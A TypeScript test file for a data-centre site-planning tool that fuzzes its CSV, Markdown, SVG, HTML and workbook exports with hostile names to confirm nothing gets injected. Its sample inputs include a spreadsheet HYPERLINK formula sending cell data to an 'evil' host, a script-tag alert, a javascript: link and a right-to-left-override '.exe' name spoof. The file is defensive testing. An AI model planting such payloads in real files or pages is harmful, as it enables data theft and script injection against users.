import { App } from 'cdktf';
import { parse } from 'csv-parse/sync';
import { convert } from 'xmlbuilder2';

import { convergedPair } from '../../examples/converged-pair/main';
import { parseExchangeRate } from '../../src/design/orders/order-plan';
import { planOrders } from '../../src/design/orders/plan-orders';
import { LABEL_KINDS } from '../../src/design/labels/labels';
import { planLimits } from '../../src/design/limits/plan-limits';
import { planWorkOrder } from '../../src/design/work-order/plan-work-order';
import { convergedExports } from '../../src/export/fabric/converged-exports';
import type { RackFeedSpec } from '../../src/model/placement-plan';
import type { SitePlan } from '../../src/model/site-plan';
import { renderBillCsv } from '../../src/report/schedules';
import { renderCoolingSvg } from '../../src/report/cooling/render-cooling-svg';
import { csvCell } from '../../src/report/csv';
import { renderPairSvg } from '../../src/report/fabric/render-pair-svg';
import { labelLines, labelSheets } from '../../src/report/labels/label-sheets';
import { planLabels } from '../../src/report/labels/label-sheets';
import { renderLimitsCsv } from '../../src/report/limits/limits-text';
import { renderLimitsSvg } from '../../src/report/limits/render-limits-svg';
import { readPricesCsv } from '../../src/report/orders/orders-csv';
import { renderOrdersCsv } from '../../src/report/orders/orders-csv';
import { renderOrdersXlsx } from '../../src/report/orders/render-orders-xlsx';
import { renderPhasesSvg } from '../../src/report/phases/render-phases-svg';
import { renderFailuresCsv } from '../../src/report/power/power-csv';
import { renderFailuresSvg } from '../../src/report/power/render-failures-svg';
import { renderFlexibilityMarkdown } from '../../src/report/power/render-flexibility-markdown';
import { renderOneLineSvg } from '../../src/report/power/render-one-line-svg';
import { renderRackFeedsCsv } from '../../src/report/power/power-csv';
import { renderRackScheduleCsv } from '../../src/report/schedules';
import { renderWorkOrderCsv } from '../../src/report/work-order/work-order-markdown';
import { renderWorkOrderMarkdown } from '../../src/report/work-order/work-order-markdown';
import { temporaryFolder } from '../constructs/temporary-folder';
import { twentySystems } from '../design/orders/ordered-sites';
import { withSwappedLinks } from '../design/work-order/site-changes';
import { HOSTILE_TEXTS } from '../support/hostile-texts';
import { renamed } from '../support/renamed-plan';
import { chainSite, cooledSite } from './outlook-fixture';

const MARK = 'Qzxw';

/** Names of the plan, whole or the part that others begin with. */
const NAMES = [
  'haein',
  'hall-1',
  'node-',
  'core-',
  'bcme-',
  'msb-',
  'tx-',
  'fws',
  'second',
  'NVIDIA',
  'MFP7E10',
  'gasan-lab',
  'zone-a',
];

const chain = chainSite().power;
const phased = twentySystems(true);
const pair = convergedPair(new App({ outdir: temporaryFolder() })).plan;
const [pairOfCores] = pair.converged ?? [];
const cooling = cooledSite().cooling;
if (pairOfCores === undefined || cooling === undefined) throw new Error('the fixtures have a pair and loops');

const SPEC: RackFeedSpec = {
  volts: 400,
  phases: 3,
  powerFactor: 1,
  cords: 1,
  breakerAmperes: [32, 63, 125],
  limitShare: 0.8,
  loads: 'three-phase',
};

/** One plan with phases, loops, a power chain and a pair of cores. */
const whole: SitePlan & Required<Pick<SitePlan, 'cooling'>> = {
  ...phased,
  name: 'gasan-lab',
  asOf: '2026-11-01',
  cooling,
  power: {
    ...phased.power,
    basis: 'capped',
    ...(chain.chain !== undefined && { chain: chain.chain }),
    zones: phased.power.zones.map((zone) => ({ ...zone, rackFeedSpec: SPEC })),
  },
};
const orders = planOrders(whole, {
  prices: readPricesCsv('part,unit_price,currency\nMFP7E10,120.50,USD\n', 'prices.csv'),
  rate: parseExchangeRate('1USD=1380KRW@2026-11-01'),
});
const work = planWorkOrder(whole, withSwappedLinks(whole, 'compute', 0, 40));
const PARTS = {
  whole,
  orders,
  cores: pairOfCores,
  limits: planLimits(whole),
  labels: LABEL_KINDS.map((kind) => planLabels(whole, kind))
    .filter(({ labels }) => labels.length > 0)
    .map((one) => ({ ...one, labels: one.labels.slice(0, 40) })),
  work: {
    ...work,
    steps: work.steps.slice(0, 40),
    renamed: [{ kind: 'cluster', name: 'haein', formerly: 'haein-0', devices: 20, cables: 4 } as const],
  },
};
type Parts = typeof PARTS;
const MARKED = NAMES.reduce((parts, name) => renamed(parts, name, MARK), PARTS);

/** Every exit by the path of its file. */
function exits(parts: Parts): ReadonlyMap<string, () => string> {
  const { whole: plan, orders: order, cores, limits, labels, work: steps } = parts;
  const { power } = plan;
  const files = new Map<string, () => string>([
    ['bill-of-materials.csv', () => renderBillCsv(plan)],
    ['rack-schedule.csv', () => renderRackScheduleCsv(plan)],
    ['rack-feeds.csv', () => renderRackFeedsCsv(plan)],
    ['orders.csv', () => renderOrdersCsv(order)],
    ['work-order.csv', () => renderWorkOrderCsv(steps)],
    ['work-order.md', () => renderWorkOrderMarkdown(steps)],
    ['flexibility.md', () => renderFlexibilityMarkdown(plan)],
    ['phases.svg', () => renderPhasesSvg(plan)],
    ['cooling.svg', () => renderCoolingSvg({ name: plan.name, cooling: plan.cooling })],
    ['one-line.svg', () => renderOneLineSvg({ ...plan, power })],
    ['failures.svg', () => renderFailuresSvg({ ...plan, power })],
    ['limits.svg', () => renderLimitsSvg(limits)],
    ['limits.csv', () => renderLimitsCsv(limits)],
    ['pair.svg', () => renderPairSvg(cores)],
  ]);
  if (power.chain !== undefined) {
    const { chain: ofPower } = power;
    files.set('failures.csv', () => renderFailuresCsv(ofPower));
  }
  for (const one of labels) {
    files.set(`labels-${one.kind}.csv`, () => [...labelLines(one)].join(''));
    files.set(`labels-${one.kind}.html`, () => [...labelSheets(one, plan.name, { columns: 3, rows: 8 })].join(''));
  }
  convergedExports(cores, plan).forEach(([path, text], index) => {
    files.set(path.endsWith('.txt') ? `breakouts-${index}.txt` : (path.split('/').at(-1) ?? ''), () => text);
  });
  return files;
}

const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
const SHOWN = /[^\P{Cc}\n\t\r]|[\p{Cs}\u202a-\u202e\u2066-\u2069]/u;

/** Markup of Markdown that no backslash takes away: elements and links. */
const MARKDOWN = /(?<!\\)<|(?<!\\)\]\(/;

/** Code shows what it holds as it is. */
const CODE = /(?<![\\`])`[^`\n]+`(?!`)/g;

/** A figure in a table is a figure there too. */
const FIGURE = /^-[\d.]+$/;

/** Characters that XML does not take; a workbook leaves them out. */
const NO_XML = /[^\P{Cc}\t\n\r]/gu;

/** What a reader of a file has from it. */
function read(path: string, text: string): unknown {
  if (path.endsWith('.csv')) return parse(text) as string[][];
  if (/\.(svg|html)$/.test(path)) return tagsOf(text);
  return text.split('\n').map((line) => /^\s*(?:#+|[-*|>]|\d+\.)?/.exec(line)?.[0].trim());
}

/** Elements of a page in their order, after a reader of XML has taken it; a text that is cut has its whole as title. */
function tagsOf(text: string): string[] {
  const markup = text.replace(/^<!doctype html>/, '').replace(/<style>[^]*?<\/style>/g, '');
  convert(markup.replace(/&(?:nbsp|middot);/g, ' '), { format: 'object' });
  return (markup.match(/<\/?[a-z][a-z0-9]*/g) ?? []).filter((tag) => !/^<\/?(tspan|title)$/.test(tag));
}

const BASELINE = new Map([...exits(MARKED)].map(([path, render]) => [path, render()]));

/** One text of each kind; `npm run fuzz` takes the whole table. */
const FEW = [
  '=HYPERLINK("http://evil/?"&A1,"x")',
  'a,b;c|d',
  'line\nbreak',
  '<script>alert(1)</script>',
  '&amp; & ]]> -->',
  '[link](javascript:alert(1)) ![i](x) **b** _i_',
  '\u001b[31mred\u001b[0m',
  'turned \u202egnp.exe',
  '__proto__',
  '가산-1호기',
];
const TEXTS = process.env['FUZZ_RUNS'] === undefined ? FEW : HOSTILE_TEXTS;

test('texts that are tried at each change are of the table', () => {
  expect(FEW.filter((text) => !HOSTILE_TEXTS.includes(text))).toEqual([]);
});

test.each([...BASELINE])('a name stands in %s', (path, text) => {
  expect(path.startsWith('breakouts') || text.includes(MARK)).toBe(true);
});

describe.each(TEXTS)('a name that is %j', (text) => {
  const parts = renamed(MARKED, MARK, text);
  const files = exits(parts);

  test.each([...BASELINE])('adds and takes nothing in %s', (path, before) => {
    const after = files.get(path)?.() ?? '';
    const [was, is] = [read(path, before), read(path, after)];
    if (!path.endsWith('.csv')) {
      expect(SHOWN.exec(after)).toBeNull();
      if (path.endsWith('.md')) expect(after.replace(CODE, '')).not.toMatch(MARKDOWN);
      expect(is).toEqual(was);
      return;
    }
    const rows = is as string[][];
    // Wire map and point-to-point sheet are read by programs, which take each cell as it stands.
    const isForPeople = !['wire-map.csv', 'point-to-point.csv'].includes(path);
    if (isForPeople) expect(rows.flat().filter((cell) => FORMULA.test(cell) && !FIGURE.test(cell))).toEqual([]);
    expect(rows.map((row) => row.map(isForPeople ? csvCell : String))).toEqual(renamed(was, MARK, text));
  });

  test('is a text in each cell of the workbook', async () => {
    const { default: readXlsxFile } = await import('read-excel-file/node');
    const cells = async (book: Uint8Array): Promise<unknown[]> =>
      (await readXlsxFile(Buffer.from(book), { trim: false })).map(({ data }) => data);
    const [was, is] = [
      await cells(await renderOrdersXlsx(MARKED.orders)),
      await cells(await renderOrdersXlsx(parts.orders)),
    ];
    expect(is.slice(1)).toEqual(renamed(was.slice(1), MARK, text.replace(NO_XML, '')));
  });
});
